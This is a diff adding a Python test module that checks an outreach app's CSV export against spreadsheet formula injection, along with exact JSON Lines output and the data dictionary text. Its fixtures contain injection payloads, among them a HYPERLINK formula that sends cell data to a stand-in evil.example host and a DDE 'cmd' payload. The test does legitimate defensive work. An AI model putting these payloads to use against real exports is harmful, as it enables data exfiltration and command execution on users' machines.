@@ -1,0 +1,149 @@
+"""CSV exports never hand a spreadsheet a formula: a text cell that would start one (=, +, -, @, a tab
+or a carriage return, OWASP's list) gets a ' in front, whether it is an answer or an attribute;
+numbers stay numbers; JSON Lines keeps every value exactly as stored; the data dictionary says so."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import UTC, datetime
+from typing import Any
+
+from sqlalchemy import insert
+from sqlmodel import col
+
+from flows.loader import load_campaign
+from outreach.bootstrap import Services
+from outreach.campaigns.commands import create_campaign
+from outreach.results.dictionary import data_dictionary
+from outreach.results.exports import ExportKind, export_lines
+from storage.tables import CampaignRecord, Resident, Response
+
+CAMPAIGN = """
+name: Formuły
+languages: [pl]
+channels: [sms]
+questions:
+  - {id: idea, type: text, text: {pl: "Co zmienić?"}}
+  - {id: change, type: number, min: -10, max: 10, text: {pl: "O ile?"}}
+  - id: places
+    type: multi
+    text: {pl: "Gdzie?"}
+    options:
+      - {key: park, text: {pl: park}}
+      - {key: plaza, text: {pl: plac}}
+"""
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'
+# (district, the idea in its words, the number): what was stored, exactly.
+ANSWERS: list[tuple[str, str, float]] = [
+    ("@SUM(1)", HYPERLINK, -3),
+    ("Orunia", "+48 600 100 200", -0.5),
+    ("Wrzeszcz", "-2+3+cmd|' /C calc'!A0", 2.5),
+    ("=1+1", "@admin", 7),
+    ("Oliwa", "\tz tabulatorem", 0),
+    ("Zaspa", "\r=z powrotem karetki", 1),
+    ("Osowa", "'=z apostrofem", 2),
+    ("Brętowo", 'zwykły tekst, z przecinkiem i "cudzysłowem" = 2', -10),
+]
+# The same as CSV cells: a ' in front of a text that starts a formula (and of one that starts with
+# ', so that taking one ' off any cell that has it always gives the text back).
+NEUTRALISED = {
+    "@SUM(1)": "'@SUM(1)",
+    HYPERLINK: "'" + HYPERLINK,
+    "+48 600 100 200": "'+48 600 100 200",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "=1+1": "'=1+1",
+    "@admin": "'@admin",
+    "\tz tabulatorem": "'\tz tabulatorem",
+    "\r=z powrotem karetki": "'\r=z powrotem karetki",
+    "'=z apostrofem": "''=z apostrofem",
+}
+
+
+async def answered(services: Services) -> CampaignRecord:
+    """A campaign whose respondents answered ANSWERS, stored as the pipeline stores them."""
+    record = await create_campaign(services.sessions, load_campaign(CAMPAIGN), clock=services.clock)
+    now = datetime(2027, 3, 2, 12, 0, tzinfo=UTC)
+    async with services.sessions() as session, session.begin():
+        rows: list[dict[str, Any]] = [
+            {
+                "pseudonym": f"formula{index:04d}",
+                "language": "pl",
+                "attributes": {"district": district},
+                "created_at": now,
+                "updated_at": now,
+            }
+            for index, (district, _, _) in enumerate(ANSWERS)
+        ]
+        ids = list((await session.execute(insert(Resident).returning(col(Resident.id)), rows)).scalars())
+        await session.execute(
+            insert(Response),
+            [
+                {
+                    "campaign_id": record.id,
+                    "question_id": question,
+                    "resident_id": resident_id,
+                    "respondent": f"p{resident_id:04d}",
+                    "value": value,
+                    "channel": "sms",
+                    "answered_at": now,
+                }
+                for resident_id, (_, idea, number) in zip(ids, ANSWERS, strict=True)
+                for question, value in (("idea", idea), ("change", number), ("places", ["park", "plaza"]))
+            ],
+        )
+    return record
+
+
+async def exported(services: Services, record: CampaignRecord, kind: ExportKind) -> str:
+    flow = services.definitions.flow(record)
+    return "".join([line async for line in export_lines(services.sessions, record, flow, ["district"], kind)])
+
+
+async def test_csv_cells_that_would_start_a_formula_are_neutralised(services: Services) -> None:
+    record = await answered(services)
+    rows = list(csv.DictReader(io.StringIO(await exported(services, record, "csv"), newline="")))
+    ideas = {row["respondent"]: row for row in rows if row["question"] == "idea"}
+    assert len(ideas) == len(ANSWERS)
+    for row, (district, idea, _) in zip(ideas.values(), ANSWERS, strict=True):
+        assert row["value"] == NEUTRALISED.get(idea, idea)
+        assert row["district"] == NEUTRALISED.get(district, district)
+    # Numbers are numbers: -3 is no formula, and a ' would turn it into text.
+    assert [row["value"] for row in rows if row["question"] == "change"] == [
+        "-3",
+        "-0.5",
+        "2.5",
+        "7",
+        "0",
+        "1",
+        "2",
+        "-10",
+    ]
+    assert {row["value"] for row in rows if row["question"] == "places"} == {"park|plaza"}
+    # Taking one ' off a cell that starts with one gives back exactly what was stored.
+    assert [row["value"][1:] if row["value"].startswith("'") else row["value"] for row in ideas.values()] == [
+        idea for _, idea, _ in ANSWERS
+    ]
+
+
+async def test_jsonl_keeps_every_value_exact(services: Services) -> None:
+    record = await answered(services)
+    lines = [json.loads(line) for line in (await exported(services, record, "jsonl")).splitlines()]
+    assert [(line["value"], line["district"]) for line in lines if line["question"] == "idea"] == [
+        (idea, district) for district, idea, _ in ANSWERS
+    ]
+    assert [line["value"] for line in lines if line["question"] == "change"] == [number for _, _, number in ANSWERS]
+
+
+def test_the_data_dictionary_says_how_csv_cells_are_neutralised() -> None:
+    dictionary = data_dictionary(load_campaign(CAMPAIGN), ["district"])
+    rule = dictionary["csv"]
+    assert "formula" in rule and "OWASP" in rule and "JSON Lines" in rule
+    for start in ("=", "+", "-", "@", "tab", "carriage return"):
+        assert start in rule
+    assert "-3" in rule  # why a negative number is left alone
+    value = next(field for field in dictionary["fields"] if field["name"] == "value")
+    district = next(field for field in dictionary["fields"] if field["name"] == "district")
+    assert "'" in value["description"] and "'" in district["description"]
